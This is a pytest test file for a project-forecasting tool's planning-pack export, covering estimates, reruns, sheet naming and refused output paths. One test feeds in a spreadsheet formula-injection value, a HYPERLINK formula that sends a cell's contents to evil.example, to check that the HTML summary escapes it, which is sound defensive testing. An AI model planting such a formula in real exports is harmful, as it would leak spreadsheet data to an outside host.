    growth = "completed {} to learn scope growth from: no growth added (pass scope_growth=<rate> to set one)"
    assert rows == [
        "on the table as it stood at 2023-10-02: 4 open tasks have no positive estimate (PRJ-01-25, PRJ-01-146, "
        "PRJ-01-149, PRJ-01-191); their project's median estimate is used. Estimate them for a better forecast.",
        # said alike at two cuts: once, with both
        f"on the tables as they stood at 2023-10-02, 2024-01-01: no {growth.format('project')}",
        "on the table as it stood at 2024-01-01: 3 open tasks have no positive estimate (PRJ-01-25, PRJ-02-54, "
        "PRJ-02-113); their project's median estimate is used. Estimate them for a better forecast.",
        f"on the table as it stood at 2024-04-01: only 1 {growth.format('project')}",
        f"on the tables as they stood at 2024-07-01, 2024-09-30: only 2 {growth.format('projects')}",
        "on the table as it stood at 2024-09-30: 1 open task has no positive estimate (PRJ-03-152); its project's "
        "median estimate is used. Estimate it for a better forecast.",
        "on the table as it stood at 2025-09-29: 2 open tasks have no positive estimate (PRJ-05-121, PRJ-05-140); "
        "their project's median estimate is used. Estimate them for a better forecast.",
        "on the table as it stood at 2025-12-29: 3 open tasks have no positive estimate (PRJ-06-122, PRJ-07-70, "
        "PRJ-07-144); their project's median estimate is used. Estimate them for a better forecast.",
        # the sixth named, not "and 1 more": it takes about the room of counting it
        "on the table as it stood at 2026-03-30: 6 open tasks have no positive estimate (PRJ-06-122, PRJ-07-70, "
        "PRJ-07-144, PRJ-08-170, PRJ-08-226, PRJ-08-230); their project's median estimate is used. Estimate them for "
        "a better forecast."]
    said = pack.forecasts["finish"].slip.backdated_said  # every one of the 11, at its cut
    assert len(said) == 11 and sum(len(re.findall(r"\d{4}-\d\d-\d\d", r.split(": ")[0])) for r in rows) == 11


def test_summary_html_is_self_contained_and_escaped(pack):
    page = (pack.path.parent / "summary.html").read_text(encoding="utf-8")
    assert page.count('src="data:image/png;base64,') >= 2  # fan chart and queue waits, embedded
    assert "<script" not in page and "http" not in page.replace("http://evil.example", "")
    # the hostile project name appears only as escaped text, never as markup
    assert "=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;click&quot;)" in page
    assert "<a " not in page and 'href="' not in page
    assert "p" * 10_000 not in page  # long cells are shortened on the page


def test_rerun_writes_byte_identical_files(pack, data, tmp_path, monkeypatch):
    # the export time is the one wall-clock value; fixed through SOURCE_DATE_EPOCH to the first run's,
    # every file of a rerun (workbook, CSV files, summary.html) is the same to the byte
    tasks, projects, people, requests = data
    first = {f.name: f.read_bytes() for f in pack.files}
    a = pd.read_csv(next(f for f in pack.files if f.name == "pack-assumptions.csv"))
    when = pd.Timestamp(a.loc[a["setting"].str.startswith("export time"), "value"].iloc[0])
    monkeypatch.setenv("SOURCE_DATE_EPOCH", str(int((when - pd.Timestamp(0)).total_seconds())))
    again = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                   requests=requests, scenarios=SCENARIOS, n_trials=N_TRIALS, random_state=3,
                                   progress=False, people_detail="named")
    assert sorted(f.name for f in again.files) == sorted(first)
    for f in again.files:
        assert f.read_bytes() == first[f.name], f.name


def test_roll_up_columns_are_found_as_written_or_refused_before_the_run(tmp_path):
    # "Business Unit" is the loader's business_unit; project_id was an internal error, "name" one too (a
    # column listed twice), and a missing column was found only after the whole run
    tasks, projects, people, requests = small_org()
    projects = projects.assign(**{S.BUSINESS_UNIT: "Ops", S.NAME: projects[S.PROJECT_ID]})
    pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                  requests=requests, n_trials=100, progress=False, by=["Business Unit", "name"])
    assert {"pack-rollup-business-unit.csv", "pack-rollup-name.csv"} <= {f.name for f in pack.files}
    # the projects of each group by their id (the first column was an unnamed row number, "index")
    head = (tmp_path / "pack-projects-business-unit.csv").read_text(encoding="utf-8-sig").splitlines()[0]
    assert head.startswith("project_id,name,rag,business_unit,")
    assert pack.tables["projects-business-unit"].index.name == "project_id"
    for by, why in (("project_id", "roll-up by project_id: projects are the rows of the Projects sheet already"),
                    ("region", "by must name a column of the projects table that groups the projects (the table's: ")):
        with pytest.raises(ValueError, match=re.escape(why)):
            X.export_planning_pack(tmp_path / "p2.xlsx", tasks=tasks, projects=projects, people=people,
                                   requests=requests, n_trials=100, progress=False, by=by)
        assert not (tmp_path / "p2.xlsx").exists()


def test_roll_up_columns_named_twice_or_not_as_excel_names_sheets_give_one_valid_page_each(tmp_path):
    # fuzz round 21: a column named twice (portfolio twice, business_unit and "Business Unit") and two long
    # names alike in their first 28 characters were DuplicateWorksheetName, "Cost centre [BU]"
    # InvalidWorksheetName (exit 3, after the whole run); "Region/Area" a file name with a folder in it
    tasks, projects, people, requests = small_org()
    long = "steering_committee_region_level_"
    projects = projects.assign(**{"Region/Area": "North", "region area": "South", "Cost centre [BU]": "CC1",
                                  f"{long}1": "A", f"{long}2": "B"})
    pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                  requests=requests, n_trials=100, progress=False,
                                  by=[S.BUSINESS_UNIT, "Business Unit", "Region/Area", "region area",
                                      "Cost centre [BU]", f"{long}1", f"{long}2", S.BUSINESS_UNIT])
    book = openpyxl.load_workbook(pack.path)
    assert [n for n in book.sheetnames if n.startswith("By ")] == [
        "By business unit", "By Region Area", "By region area (2)", "By Cost centre BU",
        "By steering committee region le", "By steering committee regio (2)"]
    rollups = sorted(f.name for f in pack.files if f.name.startswith("pack-rollup-"))
    assert rollups == ["pack-rollup-business-unit.csv", "pack-rollup-cost-centre-bu.csv",
                       "pack-rollup-region-area-2.csv", "pack-rollup-region-area.csv",
                       f"pack-rollup-{long.replace('_', '-')}1.csv", f"pack-rollup-{long.replace('_', '-')}2.csv"]
    assert pack.tables["rollup-region-area-2"].index[0] == "South"  # each file its own column's groups


def test_a_rerun_with_its_history_writes_the_same_files(tmp_path, monkeypatch):
    # the second run reads the first from the forecast history: the milestone trend's dates came back
    # as dates and were written without the time of day the first run's had
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1798675200")
    tasks, projects, people, requests = small_org()
    def run():
        return X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                      requests=requests, n_trials=200, random_state=0, progress=False,
                                      history=tmp_path / "history.sqlite")

    first = {f.name: f.read_bytes() for f in run().files}  # read before the rerun overwrites them
    assert "pack-milestone-trend.csv" in first
    again = run()
    assert sorted(f.name for f in again.files) == sorted(first)
    for f in again.files:
        assert f.read_bytes() == first[f.name], f.name


def test_a_bad_source_date_epoch_is_refused_before_any_work(monkeypatch, tmp_path):
    # fuzz (pack): the export time was read after every forecast had run, so a mistyped SOURCE_DATE_EPOCH
    # failed at the end of the run (from the CLI with numpy's own "invalid literal for int()"), and one past
    # 2262 with pandas' OutOfBoundsDatetime
    from pmo_forecast.reporting.export import export_timestamp

    monkeypatch.setenv("SOURCE_DATE_EPOCH", "99999999999999")
    with pytest.raises(ValueError, match=r"^SOURCE_DATE_EPOCH must be whole seconds since 1970-01-01 UTC, "
                                         r"got '99999999999999'\.$"):
        export_timestamp()
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "next week")
    # refused before the tasks are read: a file that does not exist is not the error
    with pytest.raises(ValueError, match=r"^SOURCE_DATE_EPOCH must be whole seconds"):
        X.export_planning_pack(tmp_path / "out" / "pack.xlsx", tasks=tmp_path / "missing.csv", progress=False)
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").iterdir())


def test_source_date_epoch_sets_the_export_time(monkeypatch):
    from pmo_forecast.reporting.export import export_timestamp

    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1798675200")
    assert export_timestamp() == pd.Timestamp("2026-12-31")
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "next week")
    with pytest.raises(ValueError, match=r"^SOURCE_DATE_EPOCH must be whole seconds since 1970-01-01 UTC, "
                                         r"got 'next week'\.$"):
        export_timestamp()
    monkeypatch.delenv("SOURCE_DATE_EPOCH")
    assert export_timestamp().nanosecond == 0 and export_timestamp().tz is None  # the clock, to the second


def test_input_file_as_output_is_refused(tmp_path, data):
    tasks = data[0]
    src = tmp_path / "pack-projects.csv"
    tasks.to_csv(src, index=False)
    before = src.read_bytes()
    with pytest.raises(ValueError, match="would be replaced by one of its CSV tables"):
        X.export_planning_pack(tmp_path / "pack.xlsx", tasks=src, progress=False)
    xlsx = tmp_path / "tasks.xlsx"
    xlsx.write_bytes(b"an input workbook")
    with pytest.raises(ValueError, match="refusing to write .*tasks.xlsx: it is one of the input files"):
        X.export_planning_pack(xlsx, tasks=src, projects=xlsx, progress=False)
    assert src.read_bytes() == before and xlsx.read_bytes() == b"an input workbook"


@pytest.mark.parametrize("name", ["summary.html", "pack.xlsx", "pack-projects.csv"])
def test_a_forecast_history_that_is_one_of_the_packs_files_is_refused_before_any_work(tmp_path, data, name):
    # fuzz round 21: --history OUT/summary.html wrote the pack, then "the forecast history ... is damaged ...
    # restore it from a backup" (exit 2), the run not recorded
    history = tmp_path / name
    why = (f"refusing to write the pack into {tmp_path}: the forecast history {history} would be replaced by one "
           "of its CSV tables" if name.endswith(".csv") else
           f"refusing to write {history}: it is the forecast history (--history) ({history}). Give the history a "
           "file of its own")
    with pytest.raises(ValueError, match=re.escape(why)):
        X.export_planning_pack(tmp_path / "pack.xlsx", tasks=data[0], n_trials=50, progress=False, history=history)
    assert list(tmp_path.iterdir()) == []  # refused before any work: nothing written


def test_interrupted_export_keeps_the_previous_pack(pack, data, tmp_path, monkeypatch):
    out = tmp_path / "out"
    out.mkdir()
    (out / "pack.xlsx").write_bytes(b"previous pack")
    (out / "summary.html").write_text("previous summary")

    def broken(path, sheets, **kw):
        Path(path).write_bytes(b"PK half a workbook")  # written and closed: no ResourceWarning
        raise KeyboardInterrupt("Ctrl-C while writing the workbook")

    monkeypatch.setattr(X, "write_workbook", broken)
    with pytest.raises(KeyboardInterrupt, match="^Ctrl-C while writing the workbook$"):  # the very one, passed on
        X.export_planning_pack(out / "pack.xlsx", tasks=data[0], n_trials=50, progress=False)
    assert sorted(p.name for p in out.iterdir()) == ["pack.xlsx", "summary.html"]
    assert (out / "pack.xlsx").read_bytes() == b"previous pack"
    assert (out / "summary.html").read_text() == "previous summary"


def _pack_with_a_project_beyond_the_horizon(tmp_path):
    """A pack of the small organisation whose first open task is estimated at 25,000 h, its project's P80 finish
    beyond the ten-year horizon, with a history; returns the pack and that project."""
    tasks, projects, people, _ = small_org()
    open_work = tasks[tasks[S.STATUS].isin(S.UNFINISHED_STATUSES)]
    pid, who = open_work[S.PROJECT_ID].iloc[0], open_work[S.ASSIGNEE].dropna().iloc[0]
    huge = open_work.iloc[[0]].assign(**{S.TASK_ID: "HUGE", S.ASSIGNEE: who, S.ESTIMATE: 25_000.0,
                                         S.STATUS: S.OPEN, S.ACTUAL: np.nan, S.STARTED: pd.NaT})
    with warnings.catch_warnings():
        warnings.filterwarnings("ignore", message=FEW_TRIALS, category=SettingsWarning)  # 50 trials, to be quick
        with pytest.warns(DataQualityWarning, match="^" + re.escape(
                "18,320 h of the 32,902 h the plan queues are on none of its days, so in no period: 18,320 h come "
                "after its last day, 2036-06-30. Utilisation and the hours ahead leave them out; the finish dates "
                "count them") + "$"):
            pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=pd.concat([tasks, huge], ignore_index=True),
                                          projects=projects, people=people, n_trials=50, random_state=0,
                                          progress=False, history=tmp_path / "h.sqlite")
    return pack, pid


def test_a_finish_beyond_the_horizon_is_shown_after_its_date_and_recorded(tmp_path):
    # fuzz: a P80 finish beyond the ten-year horizon was "–" among the projects at risk (Summary, summary.html), as
    # for a project without a finish, and the history kept no trace of it for the next pack's What changed
    from pmo_forecast.reporting.history import ForecastHistory

    pack, pid = _pack_with_a_project_beyond_the_horizon(tmp_path)
    row = pack.tables["projects"].set_index("project_id").loc[pid]
    after = row["finish_p80_after"]
    assert pd.isna(row["finish_p80"]) and f"only after {after:%Y-%m-%d}" in row["finish_note"]
    at_risk = pd.read_csv(tmp_path / "pack-at-risk.csv", dtype=str).set_index("project_id")["finish_p80"]
    assert at_risk[pid] == f"after {after:%Y-%m-%d}"
    assert at_risk.drop(pid).str.fullmatch(r"\d{4}-\d{2}-\d{2}").all()  # the others' dates as dates
    assert f"<td>after {after:%Y-%m-%d}</td>" in (tmp_path / "summary.html").read_text(encoding="utf-8")
    assert ForecastHistory(tmp_path / "h.sqlite").forecasts().set_index("project_id").loc[
        pid, "finish_p80_after"] == after


def test_not_an_xlsx_path_is_refused(tmp_path, data):
    with pytest.raises(ValueError, match="give a path ending in .xlsx"):
        X.export_planning_pack(tmp_path / "pack.xls", tasks=data[0], progress=False)


def test_an_export_naming_nobody_gets_effort_forecasts_and_throughput_finish_dates(tmp_path):
    # no assignee column and no people table: nobody's capacity is known. The delivery plan used to
    # fail inside (IndexError on the empty staff); now each project keeps its effort forecast from the
    # accuracy model and gets its finish dates from its throughput, and Assumptions say why
    tasks, projects, _, _ = small_org()
    pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks.drop(columns=[S.ASSIGNEE]),
                                  projects=projects, n_trials=200, random_state=0, progress=False)
    table = pd.read_csv(next(f for f in pack.files if f.name == "pack-projects.csv"))
    open_ids = set(tasks.loc[tasks[S.STATUS].isin(S.UNFINISHED_STATUSES), S.PROJECT_ID].astype(str))
    assert set(table[S.PROJECT_ID].astype(str)) == open_ids
    assert (table["forecast_method"] == EFFORT_THROUGHPUT_METHOD).all()
    assert table["effort_p80_hours"].notna().all() and table["finish_p80"].notna().all()
    assert "finish" not in pack.forecasts and "throughput" in pack.forecasts
    settings = pack_settings(pack)
    assert settings["inferred: people"] == (
        f"no assignees in the task export and no people table (--people): {X.NO_PEOPLE_NOTE}")


def test_estimated_work_without_enough_history_is_not_said_to_lack_estimates(tmp_path):
    # fuzz round: one open task estimated at 10 h and nothing finished. The accuracy model cannot be fitted,
    # so the project is forecast from throughput; the Summary said "Projects forecast from throughput (no hour
    # estimates): 1" and the Projects sheet "have no hour estimates on their open work", though it has one.
    # A second project without an estimate is still counted under the old label.
    tasks = pd.DataFrame({S.TASK_ID: ["T1", "T2"], S.PROJECT_ID: ["P1", "P2"], S.ESTIMATE: [10.0, np.nan],
                          S.ACTUAL: [np.nan, np.nan], S.STATUS: [S.OPEN, S.OPEN], S.ASSIGNEE: ["Ann", "Bo"],
                          S.CREATED: pd.to_datetime(["2024-05-01", "2024-05-01"])})
    for rows, none in ((tasks.iloc[:1], None), (tasks, 1)):
        folder = tmp_path / f"pack{len(rows)}"
        folder.mkdir()
        with warnings.catch_warnings():
            warnings.filterwarnings("ignore", message=FEW_TRIALS, category=SettingsWarning)  # 200 trials, to be quick
            # T2, unestimated, is counted at its project's median: said
            with pytest.warns(DataQualityWarning, match="^" + re.escape(
                    "1 open task has no positive estimate (T2): its project's median estimate is used (the median of "
                    "all estimates in a project with none), not 0 h. Estimate it for a truer load.") + "$") \
                    if none else contextlib.nullcontext():
                pack = X.export_planning_pack(folder / "pack.xlsx", tasks=rows, n_trials=200, progress=False)
        summary = pd.read_csv(folder / "pack-summary.csv").set_index("measure")["value"]
        throughput = {k: int(v) for k, v in summary.items() if k.startswith("Projects forecast from throughput")}
        assert throughput == {"Projects forecast from throughput (hour estimates, but too little finished history "
                              "for the accuracy model)": 1,
                              **({} if none is None else {"Projects forecast from throughput (no hour estimates)": 1})}
        settings = pack_settings(pack)
        assert settings["fallback: forecast method"] == (
            "no effort forecast: EstimationAccuracyModel.fit: no finished task with estimate > 0 and actual > 0; "
            "at least min_tasks=30 are needed. Open work is forecast from throughput (items finished per week) "
            "instead")
        book = openpyxl.load_workbook(pack.path, read_only=True)
        note = " ".join(str(c) for row in book["Projects"].iter_rows(values_only=True) for c in row if c)
        why = ("1 without hour estimates on their open work; " if none else "") + (
            "1 with hour estimates, but too little finished history for the accuracy model: see 'fallback: forecast "
            "method' in Assumptions")
        # one project: "has ... its" (the note said "1 projects ... have ... their" before labels.counted)
        many = len(rows) != 1
        assert (f"{len(rows)} project{'s' if many else ''} (Forecast method 'throughput: items finished per week') "
                f"{'have' if many else 'has'} "
                f"no effort forecast ({why}): {'their' if many else 'its'} ") in note
        assert "Throughput forecast (projects without an effort forecast)" in (folder / "summary.html").read_text(
            encoding="utf-8")


def test_people_the_dates_plan_above_their_capacity_are_counted_and_said(tmp_path):
    # tasks alone: people inferred from what they finished; the calibrated dates run them faster than
    # that (the slip learnt from the history), and the Capacity sheet showed them over 100% with no word
    # that this is the pace the dates rely on, not more work than people have
    tasks, _, people, _ = small_org()
    pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, n_trials=200, random_state=0, progress=False)
    person = pack.forecasts["finish"].by_person()
    fast = person.loc[(person["pace"] > 1 + 1e-6) & (person["open_estimate_hours"] > 0), "pace"]
    # 11 of the people inferred, up to 179% of their stated capacity (Quinn Diallo)
    assert (len(fast), round(fast.max(), 2), fast.idxmax()) == (11, 1.79, "Quinn Diallo")
    book = openpyxl.load_workbook(pack.path)
    kpis = _block(book["Summary"], "Headline numbers").set_index("measure")["value"]
    # counted among the people over capacity in a week: those whose weeks over 100% are that pace (here all of them)
    over = pack.forecasts["workload"].summary(future_only=True)["periods_over"].reindex(fast.index) > 0
    assert over.all() and kpis["People over capacity in a week (whole plan)"] >= len(fast)
    assert kpis["Of them, at the pace the finish dates plan above their stated capacity"] == len(fast)
    assert "People the finish dates plan above their stated capacity" not in kpis.index
    notes = [c.value for row in book["Capacity"].iter_rows() for c in row if isinstance(c.value, str)]
    said = (f"The finish dates plan {len(fast)} people faster than their stated capacity (up to "
            f"{round(100 * fast.max()):.0f}% of it: the delivered pace and the finish-date slip learnt from the history"
            ", Assumptions' 'finish dates: capacity used'); their weeks over 100% are the pace the dates rely on.")
    assert any(said in v for v in notes)
    # with the people table the sample's plan keeps everyone within capacity: no row, no note
    full = X.export_planning_pack(tmp_path / "full.xlsx", tasks=tasks, people=people.assign(
        **{S.HOURS_PER_WEEK: 80.0}), n_trials=200, random_state=0, progress=False)
    person = full.forecasts["finish"].by_person()
    assert not ((person["pace"] > 1 + 1e-6) & (person["open_estimate_hours"] > 0)).any()
    kpis = _block(openpyxl.load_workbook(full.path)["Summary"], "Headline numbers").set_index("measure")["value"]
    assert "Of them, at the pace the finish dates plan above their stated capacity" not in kpis.index


def test_a_project_without_hour_estimates_is_in_no_effort_total(tmp_path):
    # G2: a project forecast from throughput (no estimate on its open tasks) was blank on the Projects sheet
    # yet counted in every total with made-up estimates (the median estimate x its open tasks): the roll-up
    # (spent, sum of P80s, cost), the Summary's remaining estimate, contingency and cost, the key message and
    # the plan-to-forecast all held it. Now a project has an effort forecast everywhere or nowhere.
    from pmo_forecast.reporting.pack_sheets import EFFORT_METHOD, THROUGHPUT_METHOD

    tasks, projects, people, requests = small_org()
    open_ = tasks[S.STATUS].isin(S.UNFINISHED_STATUSES)
    tasks = tasks.assign(**{S.ESTIMATE: tasks[S.ESTIMATE].mask(open_ & (tasks[S.PROJECT_ID] == "PRJ-08"))})
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                      requests=requests, scenarios=SCENARIOS, by="business_unit", n_trials=200,
                                      random_state=0, progress=False)
    t = pack.tables
    proj = t["projects"].set_index(S.PROJECT_ID)
    assert proj["forecast_method"].to_dict() == {"PRJ-06": EFFORT_METHOD, "PRJ-07": EFFORT_METHOD,
                                                 "PRJ-08": THROUGHPUT_METHOD}
    assert proj.loc["PRJ-08", ["spent_hours", "effort_p80_hours", "contingency_p80", "cost_p80"]].isna().all()
    effort = proj.loc[["PRJ-06", "PRJ-07"]]
    # the plan of the two projects with estimates, from the input: hours booked, estimates left on open tasks
    assert effort["spent_hours"].sum() == 2326.75 and effort["remaining_estimate_hours"].sum() == 597.25
    scope = "the 2 open projects with hour estimates"
    kpis = t["summary"].set_index("measure")["value"]
    assert kpis[f"Remaining estimate, as planned, {scope} (hours)"] == 597.25
    assert "Contingency to be 80% sure, all projects (hours)" not in kpis
    bridge = t["plan-to-forecast"].set_index("step")["hours"]
    assert bridge["Spent so far"] == 2326.75 and bridge["Remaining estimate"] == 597.25
    assert bridge["Sum of each project's 80%-sure effort"] == pytest.approx(effort["effort_p80_hours"].sum(), rel=1e-12)
    roll = t["rollup-business-unit"]
    # Retail is PRJ-07 alone (PRJ-08 is in no group's effort, cost or finish): its figures are PRJ-07's own
    assert roll.loc["Retail", "projects"] == 1 and roll.loc["all", "projects"] == 2
    for col, mine in (("spent_hours", "spent_hours"), ("effort_p80_hours", "effort_p80_hours"),
                      ("sum_of_project_p80_hours", "effort_p80_hours"), ("cost_p80", "cost_p80"),
                      ("finish_p80", "finish_p80")):
        assert roll.loc["Retail", col] == proj.loc["PRJ-07", mine], col
    assert roll.loc["all", "spent_hours"] == 2326.75
    assert roll.loc["all", "effort_p80_hours"] - 2326.75 == pytest.approx(
        kpis[f"Effort still to spend, P80, {scope} (hours)"], rel=1e-12)
    assert kpis[f"Cost at completion, 80% sure, {scope}"] == roll.loc["all", "cost_p80"]  # its currency in the note
    costs = t["scenario-costs"].set_index("scenario")
    assert costs.loc["baseline", "cost_at_completion_p80"] == pytest.approx(roll.loc["all", "cost_p80"], rel=1e-12)
    # the scenarios showed its P80 finish from the plan's guess and counted it at risk and in their effort
    for r in pack.forecasts["scenarios"]:
        assert "PRJ-08" not in r.projects.index and r.without_estimates == ("PRJ-08",)
        assert ("PRJ-08: no hour estimates on their open work, so in none of the scenario's figures (forecast from "
                "throughput on the Projects sheet)") in r.actions()
    base = next(r for r in pack.forecasts["scenarios"] if r.scenario.name == "baseline")
    assert base.summary().loc["portfolio effort P80 (hours)", "value"] == pytest.approx(
        np.quantile(pack.forecasts["overrun"].samples.sum(axis=1), 0.8), rel=1e-12)
    left = float(kpis[f"Effort still to spend, P80, {scope} (hours)"])
    assert t["key-messages"]["message"].iat[2] == (
        f"To be 80% sure, {scope} need {left:,.0f} more hours, against 597 hours left in their estimates "
        f"({left / 597.25 - 1:+.0%}). Harbour data 1 has no hour estimates and is not in these figures.")
    settings = t["settings"].set_index("setting")["value"]
    assert settings["fallback: projects out of the effort totals"] == (
        "1 project has no hour estimate on any open task (PRJ-08): no effort forecast, so out of every effort and "
        "cost figure (Summary totals, contingency, plan to forecast, roll-ups, key messages); its 78 open tasks are "
        "still in the delivery plan, at 234 h of filled-in estimates (the median of all estimates), taking "
        "people's time in the other projects' finish dates, utilisation and the scenarios")
    said = [str(w.message) for w in caught if issubclass(w.category, DataQualityWarning)]
    assert "1 project has no hour estimate on any open task (PRJ-08): left out of the effort forecast " \
           "(OverrunForecast.without_estimates), since its hours would be made up; estimate its tasks, or " \
           "forecast it from throughput (pmo_forecast.forecast_throughput)" in said
    # the delivery plan still schedules its work, at a guess: said as such
    assert any("in a project with none (PRJ-08), the median of all estimates (3 h) for the delivery plan only" in m
               for m in said)


def test_open_tasks_given_their_projects_median_estimate_are_said_in_the_assumptions(tmp_path):
    # the effort forecast filled them with their project's median estimate and warned on the console only:
    # the pack's figures counted made-up hours and its Assumptions did not say so
    tasks, projects, _, _ = small_org()
    open_ = tasks[S.STATUS].isin(S.UNFINISHED_STATUSES) & (tasks[S.PROJECT_ID] == "PRJ-07")
    blank = tasks.index[open_][:2]
    tasks = tasks.assign(**{S.ESTIMATE: tasks[S.ESTIMATE].mask(tasks.index.isin(blank))})
    median = tasks.loc[open_, S.ESTIMATE].median()  # the two blanks left out
    with pytest.warns(DataQualityWarning, match="their project's median estimate is used"):
        pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, n_trials=100,
                                      random_state=0, progress=False)
    settings = pack_settings(pack)
    ids = ", ".join(tasks.loc[blank, S.TASK_ID])
    assert settings["fallback: open tasks without an estimate"] == (
        f"2 open tasks without a positive estimate ({ids}) are forecast at their project's median estimate "
        f"({2 * median:g} h in all, in the remaining estimate and every effort figure); estimate them for a "
        "better forecast")


def test_naming_nobody_a_project_without_hour_estimates_has_throughput_alone(tmp_path):
    # with nobody named every project's finish dates come from throughput; one without hour estimates was
    # labelled "effort: estimates through the accuracy model; ..." with an effort forecast from made-up estimates
    from pmo_forecast.reporting.pack_sheets import THROUGHPUT_METHOD

    tasks, projects, _, _ = small_org()
    open_ = tasks[S.STATUS].isin(S.UNFINISHED_STATUSES)
    tasks = tasks.assign(**{S.ESTIMATE: tasks[S.ESTIMATE].mask(open_ & (tasks[S.PROJECT_ID] == "PRJ-08"))})
    with warnings.catch_warnings(), pytest.warns(DataQualityWarning) as caught:
        warnings.filterwarnings("ignore", message=FEW_TRIALS, category=SettingsWarning)  # 100 trials, to be quick
        pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks.drop(columns=[S.ASSIGNEE]),
                                      projects=projects, n_trials=100, random_state=0, progress=False)
    blank = "78 open tasks have no positive estimate (PRJ-08-2, PRJ-08-3, PRJ-08-5, PRJ-08-12, PRJ-08-14 and 73 more)"
    assert [str(w.message) for w in caught] == [  # the estimates blanked here, said by the forecast and the workload
        f"{blank}; their project's median estimate is used, or, in a project with none (PRJ-08), the median of all "
        "estimates (3 h) for the delivery plan only: the effort forecast leaves such projects out. Estimate them for "
        "a better forecast.",
        "1 project has no hour estimate on any open task (PRJ-08): left out of the effort forecast "
        "(OverrunForecast.without_estimates), since its hours would be made up; estimate its tasks, or forecast it "
        "from throughput (pmo_forecast.forecast_throughput)",
        f"{blank}: their project's median estimate is used (the median of all estimates in a project with none), not "
        "0 h. Estimate them for a truer load."]
    proj = pack.tables["projects"].set_index(S.PROJECT_ID)
    assert proj["forecast_method"].to_dict() == {"PRJ-06": EFFORT_THROUGHPUT_METHOD,
                                                 "PRJ-07": EFFORT_THROUGHPUT_METHOD, "PRJ-08": THROUGHPUT_METHOD}
    assert proj.loc["PRJ-08", ["spent_hours", "effort_p80_hours"]].isna().all()
    assert proj.loc["PRJ-08", ["due", "budget_hours", "finish_p80"]].notna().all()  # its throughput row, whole
    kpis = pack.tables["summary"].set_index("measure")["value"]
    assert kpis["Remaining estimate, as planned, the 2 open projects with hour estimates (hours)"] == 597.25


def test_a_finished_project_forecast_from_throughput_has_its_undated_tasks_checked(tmp_path):
    # the Assumptions row read only the plan's forecast: naming nobody (every project forecast from throughput),
    # PRJ-08 with its last 78 tasks done without a finish date went unsaid, though its note said it
    tasks, projects, _, _ = small_org()
    last = tasks[S.STATUS].isin(S.UNFINISHED_STATUSES) & (tasks[S.PROJECT_ID] == "PRJ-08")
    tasks = tasks.assign(**{S.STATUS: tasks[S.STATUS].mask(last, S.DONE), S.FINISHED: tasks[S.FINISHED].mask(last)})
    with warnings.catch_warnings():
        warnings.filterwarnings("ignore", message=FEW_TRIALS, category=SettingsWarning)  # 100 trials, to be quick
        pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks.drop(columns=[S.ASSIGNEE]),
                                      projects=projects, n_trials=100, random_state=0, progress=False)
    assert "finish" not in pack.forecasts and "throughput" in pack.forecasts
    settings = pack_settings(pack)
    assert settings["check: finished projects' undated tasks"] == (
        "1 project with no open work has done tasks without a finish date: the finish shown is the last dated "
        "task's, so it may be too early: PRJ-08 (78 done tasks)")


def test_a_person_without_a_role_is_said_not_a_crash(tmp_path):
    # one blank role cell stopped the pack (NA in the PM mask of the workload); "Project Manager" lost the
    # PM pool (roles compared as written)
    tasks, projects, people, requests = small_org()
    pms = people["role"] == "pm"
    people = people.assign(role=people["role"].astype(object).where(~pms, "Project Manager"))
    people.loc[people.index[~pms][0], "role"] = None
    people.loc[people.index[~pms][1], "hours_per_week"] = np.nan  # capacity filled in: said too
    with pytest.warns(DataQualityWarning, match="^" + re.escape(
            "people without hours_per_week or availability get 40 h and 100%: fill them in for realistic dates") + "$"):
        pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                      requests=requests, n_trials=200, random_state=0, progress=False)
    settings = pack_settings(pack)
    assert settings["people: role blank"].startswith(f"1 of {len(people)} people without a role")
    assert settings["people: roles"] == "'Project Manager' read as 'pm'"
    assert settings["people: hours per week assumed"] == (
        f"1 of {len(people)} people without hours per week get 40 h a week ({people['person'][~pms].iloc[1]})")
    assert "people: availability (share of the week for project work) assumed" not in settings.index
    assert pack.forecasts["queue"].servers == int(pms.sum())  # the PM pool kept its PMs


def test_open_work_of_people_gone_or_unknown_goes_to_the_pool_and_is_said(tmp_path):
    # it was a warning on the console only: the pack did not say whose work the plan had moved
    tasks, projects, people, requests = small_org()
    as_of = tasks[S.FINISHED].max().normalize()
    open_ = tasks[tasks[S.STATUS].isin(S.UNFINISHED_STATUSES)]
    left, stranger = open_[S.ASSIGNEE].value_counts().index[:2]
    tasks = tasks.assign(**{S.ASSIGNEE: tasks[S.ASSIGNEE].replace({stranger: "Zed Unknown"})})
    people = people.assign(**{S.END: people[S.END].where(people[S.PERSON] != left, as_of - pd.Timedelta(days=30))})
    with pytest.warns(DataQualityWarning, match="goes to the project team's pool"), pytest.warns(
            DataQualityWarning, match="^" + re.escape(
                "1 assignee with work is not in the people table (Zed Unknown): 858 h with no capacity to set "
                "against; add them to the people table") + "$"):
        pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                      requests=requests, n_trials=200, random_state=0, progress=False)
    n_left, n_zed = (open_[S.ASSIGNEE] == left).sum(), (open_[S.ASSIGNEE] == stranger).sum()
    moved = pack.forecasts["finish"].reassigned.set_index(S.ASSIGNEE)
    assert moved[["reason", "open_tasks"]].to_dict("index") == {
        left: {"reason": "left", "open_tasks": n_left}, "Zed Unknown": {"reason": "not in the people table",
                                                                         "open_tasks": n_zed}}
